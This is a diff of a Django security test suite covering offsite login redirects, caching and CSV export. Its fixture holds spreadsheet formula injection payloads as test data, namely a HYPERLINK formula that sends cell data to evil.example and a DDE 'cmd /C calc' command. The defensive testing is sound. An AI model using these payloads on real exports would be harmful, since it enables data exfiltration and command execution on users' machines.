@@ -13,9 +13,8 @@ import pytest
 from django.core.files.base import ContentFile
 
 from knowledge.models import Document
-from providers.models import ProviderConfig
-from tests.chatkit import FakeLLM
-from tests.security.conftest import STAFF_PASSWORD, fast_client
+from tests.security.conftest import fast_client
+from tests.support.personas import PASSWORD
 
 pytestmark = [
     pytest.mark.security,
@@ -49,14 +48,14 @@ def test_it_never_follows_an_offsite_next_after_staff_sign_in(target, adele):
     assert via_admin.status_code == 302 and via_admin["Location"].startswith("/staff/login/?")
     # ...which never follows it off the site.
     response = client.post(
-        "/staff/login/", {"username": "adele", "password": STAFF_PASSWORD, "next": target}
+        "/staff/login/", {"username": "adele", "password": PASSWORD, "next": target}
     )
     assert response.status_code == 302 and response["Location"] == "/staff/"
 
 
 def test_it_follows_a_next_on_this_site_after_staff_sign_in(marius):
     response = fast_client().post(
-        "/staff/login/", {"username": "marius", "password": STAFF_PASSWORD, "next": "/comms/"}
+        "/staff/login/", {"username": "marius", "password": PASSWORD, "next": "/comms/"}
     )
     assert response["Location"] == "/comms/"
 
@@ -144,18 +143,11 @@ def test_it_keeps_answers_out_of_every_cache(client_for):
 
 
 @pytest.fixture
-def formula_provider(db):
-    fake = FakeLLM()
-    ProviderConfig.objects.create(
-        name='=HYPERLINK("https://evil.example/?"&A1;"Détails")',
-        kind="openai_compatible",
-        model="@SUM(1+1)*cmd|' /C calc'!A0",
-        base_url=fake.base_url,
-        timeout=5,
-        order=1,
-    )
-    yield fake
-    fake.close()
+def formula_provider(fake_llm):
+    fake_llm.config.name = '=HYPERLINK("https://evil.example/?"&A1;"Détails")'
+    fake_llm.config.model = "@SUM(1+1)*cmd|' /C calc'!A0"
+    fake_llm.config.save()
+    return fake_llm
 
 
 def test_it_exports_names_that_a_spreadsheet_cannot_run(formula_provider, client_for):
